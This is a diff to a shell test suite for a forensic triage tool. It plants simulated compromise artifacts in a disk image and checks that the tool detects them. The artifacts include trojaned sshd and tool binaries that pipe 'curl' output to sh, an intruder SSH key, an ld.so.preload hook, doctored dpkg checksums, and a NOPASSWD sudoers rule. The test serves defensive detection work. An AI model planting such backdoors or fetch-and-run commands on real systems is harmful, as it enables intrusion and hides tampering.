@@ -160,6 +160,8 @@ mount -t tmpfs -o size=16m tmpfs /home
 mkdir -p /home/dev/.local/bin
 cp /bin/sleep /home/dev/.local/bin/tool
 /home/dev/.local/bin/tool 60 &
+# on a loaded machine the child may not have exec'd yet when the capture starts
+for _ in $(seq 50); do [ "$(readlink /proc/$!/exe)" = /home/dev/.local/bin/tool ] && break; sleep 0.1; done
 rc=0
 "$@" || rc=$?
 echo "$rc" >"$W/clean-rc"
@@ -218,7 +220,8 @@ mkdir -p "$I"/etc/{cron.d,sudoers.d,systemd/system,ssh} "$I"/var/spool/cron/cron
 printf '%s\n' 'root:x:0:0:root:/root:/bin/bash' 'alice:x:1000:1000::/home/alice:/bin/bash' >"$I/etc/passwd"
 printf '%s\n' 'root ALL=(ALL:ALL) ALL' >"$I/etc/sudoers"
 printf '%s\n' 'SHELL=/bin/sh' '17 * * * * root cd / && run-parts --report /etc/cron.hourly' >"$I/etc/crontab"
-printf 'PermitRootLogin yes\n' >"$I/etc/ssh/sshd_config"
+printf 'PermitRootLogin yes\nX\377\376Bad\300\257Key yes\n' >"$I/etc/ssh/sshd_config"
+echo build-07.example >"$I/etc/hostname"
 ssh-keygen -q -t ed25519 -N '' -C managed@ops -f "$W/managed"
 ssh-keygen -q -t ed25519 -N '' -C intruder@evil -f "$W/intruder"
 cp "$W/managed.pub" "$I/root/.ssh/authorized_keys"
@@ -227,6 +230,21 @@ mkdir -p "$I/usr/bin" "$I/usr/share/doc/tool" "$I/var/lib/dpkg/info"
 printf '#!/bin/sh\necho tool\n' >"$I/usr/bin/tool"
 echo 'a tool' >"$I/usr/share/doc/tool/README"
 (cd "$I" && md5sum usr/bin/tool usr/share/doc/tool/README) >"$I/var/lib/dpkg/info/tool.md5sums"
+echo /usr/bin/tool >"$I/var/lib/dpkg/info/tool.list"
+# and openssh-server, whose sshd is swapped below and its checksums touched to hide it
+mkdir -p "$I/usr/sbin"
+printf '#!/bin/sh\necho sshd\n' >"$I/usr/sbin/sshd"
+(cd "$I" && md5sum usr/sbin/sshd) >"$I/var/lib/dpkg/info/openssh-server.md5sums"
+echo /usr/sbin/sshd >"$I/var/lib/dpkg/info/openssh-server.list"
+# dpkg.log as dpkg writes it (after the files, in the image's zone), rotated: the unpack
+# of tool is only in dpkg.log.2.gz, read through libarchive
+mkdir -p "$I/var/log"
+echo Etc/UTC >"$I/etc/timezone"
+now=$(date -u '+%F %T')
+printf '%s\n' "$now install tool:amd64 <none> 1.0" "$now status unpacked tool:amd64 1.0" | gzip >"$I/var/log/dpkg.log.2.gz"
+printf '%s\n' "$now configure tool:amd64 1.0 <none>" >"$I/var/log/dpkg.log.1"
+printf '%s\n' "$now install openssh-server:amd64 <none> 1:9.2p1-2" \
+        "$now status unpacked openssh-server:amd64 1:9.2p1-2" "$now trigproc man-db:amd64 2.11 <none>" >"$I/var/log/dpkg.log"
 # links that would leave the image if they were followed on the host
 ln -s /etc/sudoers "$I/etc/sudoers.d/zz-link"
 ln -s ../../../../../../../../../etc/passwd "$I/etc/sudoers.d/zz-rel"
@@ -241,6 +259,9 @@ cat "$W/intruder.pub" >>"$I/root/.ssh/authorized_keys"
 echo /usr/lib/x86_64-linux-gnu/libhook.so >"$I/etc/ld.so.preload"
 printf '#!/bin/sh\ncurl -s http://127.0.0.1:9/k | sh\n' >"$I/usr/bin/tool"
 chmod 0755 "$I/usr/bin/tool"
+sleep 1.1 # three seconds past the logged unpack: beyond the log-to-ctime slack
+printf '#!/bin/sh\ncurl -s http://127.0.0.1:9/k | sh\n' >"$I/usr/sbin/sshd"
+chmod 644 "$I/var/lib/dpkg/info/openssh-server.md5sums"
 echo 'alice ALL=(ALL) NOPASSWD: ALL' >"$I/etc/sudoers.d/90-alice"
 printf '%s\n' '+ make' '+ curl -fsSL http://127.0.0.1:9/setup.sh | bash' >"$I/var/lib/jenkins/jobs/app/builds/7/log"
 
@@ -267,7 +288,14 @@ expect_eq "curl|bash in a Jenkins build log is flagged" true \
         "$(has_rule triage.ci-download-exec "f['evidence']['line_number'] == 2")"
 expect_eq "a packaged executable changed after install is an integrity finding" true \
         "$(has_rule triage.package-modified "f['category'] == 'integrity' and f['severity'] == 'high' and f['evidence']['files'] == ['/usr/bin/tool']")"
-expect_eq "the untouched packaged file was not hashed (its ctime predates the checksums)" "1 1" \
+expect_eq "a touched .md5sums after a swapped binary is flagged against dpkg.log" true \
+        "$(has_rule triage.dpkg-info-tampered "f['evidence']['file'] == '/var/lib/dpkg/info/openssh-server.md5sums' and f['category'] == 'anti-forensics'")"
+expect_eq "and the swapped binary it hid is reported" true \
+        "$(has_rule triage.package-modified "f['evidence']['files'] == ['/usr/sbin/sshd']")"
+expect_eq "the checksum files dpkg.log accounts for are not flagged (tool's unpack only in dpkg.log.2.gz)" \
+        "1 Etc/UTC 3" \
+        "$(json "$W/disk/packages.json" "'%d %s %d' % (d['info_files_tampered'], d['dpkg_log']['timezone'], len(d['dpkg_log']['read']))")"
+expect_eq "the untouched packaged file was not hashed (its ctime predates the checksums)" "2 1" \
         "$(json "$W/disk/packages.json" "'%d %d' % (d['files_hashed'], d['files_unchanged_since_install'])")"
 expect_eq "PermitRootLogin yes is flagged" true "$(has_rule triage.sshd-root-login "f['category'] == 'exposure'")"
 expect_eq "a symlink in the image resolves inside the image, not on the host" "root ALL=(ALL:ALL) ALL" \
@@ -280,6 +308,23 @@ expect_match "and the summary says so" 'processes: skipped \(needs the live host
 newer=$(json "$W/disk/newer.json" "sorted(f['path'] for f in d['files'] if f['type'] == 'file')")
 expect_match "files newer than --since include the planted ones" 'updater.service.*ld.so.preload|ld.so.preload.*updater.service' "$newer"
 expect_eq "and not the older ones" false "$(json "$W/disk/newer.json" "any(f['path'] == '/etc/passwd' for f in d['files'])")"
+expect_eq "an sshd keyword that is not UTF-8 leaves every JSON file of the bundle loadable" ok \
+        "$(cd "$W/disk" && python3 -c 'import glob, json, sys
+for p in glob.glob("*.json"):
+    json.load(open(p, encoding="utf-8"))
+print("ok" if "x\\xff\\xfebad\\xc0\\xafkey" in json.load(open("sshd.json"))["effective"] else "key missing")' 2>&1)"
+expect_eq "capture.json names the image's host, not this one" build-07.example \
+        "$(json "$W/disk/capture.json" "d['hostname']")"
+touch -d @1000000000 "$I/etc/passwd"
+"$BUILDWARD" triage --root "$I" --out "$W/since-img" --since /etc/passwd --skip packages >/dev/null 2>&1 || true
+expect_eq "--since FILE with --root takes the image's file time" 1000000000 \
+        "$(json "$W/since-img/capture.json" "d['since']" 2>&1)"
+mv "$I/etc/passwd" "$W/passwd.saved"
+"$BUILDWARD" triage --root "$I" --out "$W/nopasswd" --inventory "$W/managed.pub" --skip packages,newer \
+        >/dev/null 2>&1 || true
+mv "$W/passwd.saved" "$I/etc/passwd"
+expect_eq "without /etc/passwd the homes under /root and /home are still read" true \
+        "$(json "$W/nopasswd/findings.json" "any(f['rule'] == 'triage.unknown-ssh-key' and f['evidence']['file'] == '/root/.ssh/authorized_keys' for f in d['findings'])" 2>&1)"
 
 # ---- 5. diff, archive, exit codes -------------------------------------------
 cp "$W/intruder.pub" "$I/home/alice/.ssh/authorized_keys"
@@ -297,7 +342,7 @@ RC=0
 "$BUILDWARD" triage diff "$W/disk2" "$W/disk2" >"$W/diff0.out" 2>&1 || RC=$?
 expect_rc "triage diff of a bundle with itself exits 0" 0
 "$BUILDWARD" triage --root "$I" --out "$W/disk3" --baseline "$W/disk2" --hash-all >"$W/base.out" 2>&1
-expect_eq "--hash-all hashes every packaged file" 2 "$(json "$W/disk3/packages.json" "d['files_hashed']")"
+expect_eq "--hash-all hashes every packaged file" 3 "$(json "$W/disk3/packages.json" "d['files_hashed']")"
 expect_match "--baseline prints the changes after the capture" "changes since '.*disk2':" "$(cat "$W/base.out")"
 RC=0
 "$BUILDWARD" triage diff "$W/disk/findings.json" "$W/disk2" >"$W/diff-file.out" 2>&1 || RC=$?
